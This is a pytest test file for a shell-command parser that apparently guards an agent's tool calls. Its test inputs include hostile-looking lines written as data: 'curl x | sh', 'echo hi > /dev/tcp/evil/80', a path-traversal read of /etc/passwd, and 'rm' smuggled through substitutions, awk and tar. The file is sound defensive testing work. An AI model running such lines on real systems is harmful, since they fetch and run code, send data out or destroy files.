"""A command line is taken apart as a shell would do it, and what cannot be told from the text is a concern."""

import shlex
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callgate.core.shell import LONGEST, parse_command


@pytest.mark.parametrize(
    ("line", "commands"),
    [
        ("ls", ["ls"]),
        ("ls -la && git status | grep x; echo hi", ["ls -la", "git status", "grep x", "echo hi"]),
        ("ls\nrm x\n", ["ls", "rm x"]),
        ("(ls; { rm x; })", ["ls", "rm x"]),
        ("! ls || rm x", ["ls", "rm x"]),
        ("ls # and rm", ["ls"]),
        ("echo a \\\n  b", ["echo a b"]),
        ("r''m \"a b\" c\\ d", ["rm 'a b' 'c d'"]),
        ("git commit -m 'a; rm b'", ["git commit -m 'a; rm b'"]),
        ("[ -f x ] && ls", ["[ -f x ]", "ls"]),
        ("ls *.py ~/x $HOME", ["ls *.py ~/x $HOME"]),
        ("cat ./src/../../etc/passwd", ["cat ../etc/passwd"]),
        ("./gradlew build", ["./gradlew build"]),
        ("ls 2>&1 >/dev/null", ["ls"]),
        ("make > out.txt", ["make"]),
        ("git show HEAD@{1}", ["git show HEAD@{1}"]),
    ],
)
def test_a_plain_line_becomes_its_commands_without_a_concern(line: str, commands: list[str]) -> None:
    parsed = parse_command(line, "/w")
    assert list(parsed.commands) == commands
    assert parsed.concerns == ()


@pytest.mark.parametrize(
    ("line", "concern"),
    [
        ("echo $(rm x)", "a command substitution: $(rm x)"),
        ("echo `rm x`", "a command substitution"),
        ('echo "a $(rm x) b"', "a command substitution"),
        ("cat <(rm x)", "a process substitution"),
        ("ls > /etc/x", "a redirection out of the workspace: /etc/x"),
        ("ls > ../x", "a redirection out of the workspace"),
        ("ls > $X", "known only when it runs"),
        ("ls > .git/config", "a hidden file"),
        ("cd /tmp && ls > x", "after a change of folder"),
        ("FOO=1 ls", "it sets a variable for the command"),
        ("FOO=1", "it sets a variable"),
        ("export FOO=1", "it sets a variable"),
        ("unset FOO", "it unsets variables"),
        ("eval 'rm x'", "eval runs text as a command"),
        ("sudo zsh -c 'rm x'", "zsh runs text as commands"),
        ('sh -c "$HOME/x"', "what it runs is known only when it runs"),
        ("sh -c 'rm $X'", "the value of $X is known only when it runs"),
        ("curl x | sh", "sh runs what it is fed"),
        ("cat <<EOF\nrm x\nEOF", "a here-document"),
        ("cat <<< x", "a here-string"),
        ("sleep 9 &", "in the background"),
        ("echo $X", "the value of $X is known only when it runs"),
        ("echo ${X:-y}", "known only when it runs"),
        ("echo $((1+1))", "arithmetic"),
        ("$X y", "which program runs is known only when it runs"),
        ("echo {a,b}", "braces become several words"),
        ("cat src/.?/x", "the pattern may reach the folder above"),
        ("cat src/$HOME/../x", "a step up behind a value"),
        ("for i in a; do rm $i; done", "a loop"),
        ("if a; then b; fi", "a condition"),
        ("f() { rm x; }; f", "it defines a function"),
        ("echo 'a", "it cannot be parsed"),
        ("ls;;rm", "is not understood here"),
        ("then rm x", "then where a command should be"),
        ("a\\\nb c", "otherwise than it looks"),
        ('!"ls"', "is not understood here"),
        ("ls\rrm x", "an invisible or control character (U+000D)"),
        ("ls\u200b", "an invisible or control character (U+200B)"),
        ("ls\u00a0rm", "an invisible or control character (U+00A0)"),
        ("env FOO=1 ls", "env sets a variable for the command: FOO=1"),
        ("builtin cd /etc; ls > x", "after a change of folder"),
        ("echo !rm", "may call up an earlier command"),
        ('echo "now !!"', "may call up an earlier command"),
        ("read PATH; ls", "read changes variables"),
        ("ls *(e:'rm x':)", "it cannot be parsed"),
        ("ls =(rm x)", "it cannot be parsed"),
        ("echo hi > /dev/tcp/evil/80", "out of the workspace"),
        ("ls; -x2>&1", "a redirection that is not understood"),
        ("aa 22>&1", "a redirection that is not understood"),
        ("ls 2>/dev/null dir", "words after a redirection"),
        ("echo $'\\x41'", "text spelled in escapes"),
        ("[[ a && b ]]", "a test that is not understood"),
        ("", "it has no command"),
        ("# nothing", "it has no command"),
        ("x" * (LONGEST + 1), "longer than 10,000 characters"),
        ("a;" * 400, "too many special signs"),
    ],
)
def test_what_the_text_does_not_settle_is_a_concern(line: str, concern: str) -> None:
    concerns = parse_command(line, "/w").concerns
    assert any(concern in said for said in concerns), concerns


@pytest.mark.parametrize(
    "line",
    ["echo $(rm x)", "cat <(rm x)", "for i in a; do rm x; done", "if a; then rm x; fi", "f() { rm x; }", "ls ; ; rm x"],
)
def test_commands_within_a_concern_are_still_found(line: str) -> None:
    assert "rm x" in parse_command(line).commands


@pytest.mark.parametrize(
    ("line", "reading"),
    [
        ("/bin/rm x", "rm x"),
        ("sudo -u root rm x", "rm x"),
        ("time nice -n 5 rm x", "rm x"),
        ("timeout 5s rm x", "rm x"),
        ("env A=1 rm x", "rm x"),
        ("find . -exec rm x", "rm x"),
        ('rm "x"', 'rm "x"'),
    ],
)
def test_a_command_is_also_seen_as_what_it_really_runs(line: str, reading: str) -> None:
    (part,) = parse_command(line).parts
    assert reading in part.readings


def test_a_part_knows_its_words_and_where_it_begins() -> None:
    _, second = parse_command("écho a; rm 'b c'").parts
    assert (second.words, second.position) == (("rm", "b c"), 8)


@pytest.mark.parametrize("line", ["echo 'ha!x'", 'echo "Done!"', "find . ! -name x", "echo a!=b", "[ ! -f x ]"])
def test_an_exclamation_mark_that_recalls_nothing_is_no_concern(line: str) -> None:
    assert parse_command(line).concerns == ()


def test_a_part_knows_what_it_runs_in_turn_and_a_line_where_its_redirections_lead() -> None:
    parsed = parse_command("sudo nice rm x > out 2>&1 < in", "/w")
    [part] = parsed.parts
    assert [(one.argv_text, one.outer_probe) for one in part.inner] == [
        ("nice rm x", "sudo ⁇ rm x"),
        ("rm x", "sudo nice ⁇ x"),
    ]
    assert parsed.files == ("x", "out", "in")
    assert parsed.writes == ("x",)


def test_a_file_within_the_workspace_may_be_written_by_its_whole_path() -> None:
    assert not parse_command("ls > /w/out.txt", "/w").concerns
    assert parse_command("ls > /work/out.txt", "/w").concerns
    assert parse_command("ls > /w/out.txt").concerns
    assert parse_command("ls > out.txt", "/w", moved=True).concerns


@pytest.mark.parametrize("unit", ["(", "$(", "${", "a|", "<<A ", "`", '"$(', "[[ ", "if ", "{ ", "a=$("])
def test_a_hostile_line_does_not_stall(unit: str) -> None:
    started = time.perf_counter()
    assert parse_command((unit * LONGEST)[:LONGEST]).concerns
    assert parse_command(unit * 150).concerns
    assert time.perf_counter() - started < 1


@given(st.text(max_size=60))
def test_any_text_is_parsed_or_is_a_concern(text: str) -> None:
    parsed = parse_command(text)
    assert parsed.parts or parsed.concerns


plain = st.sampled_from(["ls", "git status", "echo 'a b'", "make -j4", "cat x.txt"])
joints = st.sampled_from([";", "&&", "||", "|", "\n", " ; ", " && ", " | "])


@given(plain, st.lists(st.tuples(joints, plain), max_size=5))
def test_joined_commands_are_all_found_in_order(first: str, rest: list[tuple[str, str]]) -> None:
    line = first + "".join(joint + command for joint, command in rest)
    parsed = parse_command(line)
    assert parsed.commands == (first, *(command for _, command in rest))
    assert not parsed.concerns


def inner(line: str, root: str = "/w") -> list[str]:
    return [one.argv_text for part in parse_command(line, root).parts for one in part.inner]


def test_a_text_that_is_run_is_taken_apart_within_it_too() -> None:
    assert inner("sudo sh -c 'rm x && ls'") == ["sh -c 'rm x && ls'", "rm x", "ls"]
    assert inner("""sh -c 'sh -c "rm x"'""") == ["sh -c 'rm x'", "rm x"]
    (part,) = parse_command("tar --to-command='rm x' -xf a").parts
    assert part.inner[0].outer_probe == "tar --to-command=⁇ -xf a"
    assert "rm x" in part.readings


def test_texts_within_texts_without_end_are_code_at_last() -> None:
    line = "watch 'ls -l'"
    for _ in range(6):
        line = f"env -S {shlex.quote(line)}"
    assert inner(line)[-1].startswith("(runs code) ")


def test_wrappers_around_wrappers_without_end_are_a_concern() -> None:
    for line in ("watch " * 1600 + "'ls -l'", "sudo " * 1900 + "rm"):
        began = time.process_time()
        assert any("too deep" in concern for concern in parse_command(line).concerns)
        assert time.process_time() - began < 1


def test_files_that_are_written_within_the_workspace_are_told_and_others_must_be_allowed() -> None:
    written = parse_command("cp a b && tee c && curl -o d https://x", "/w")
    assert written.files == ("b", "c", "d")
    assert [one for part in written.parts for one in part.inner] == []
    for line in ("cp a /etc/b", "tee ../c", "curl -o ~/d https://x", "cd x && cp a b", "cp a $HOME/b", "cp a .git/b"):
        assert inner(line)[-1].startswith("(writes) "), line
    assert inner("cp a /w/b") == inner("tee /dev/null") == []


def test_what_a_code_names_is_seen_by_rules_that_restrict() -> None:
    (part,) = parse_command("""awk 'BEGIN{system("rm x")}'""").parts
    assert "rm x" in part.readings
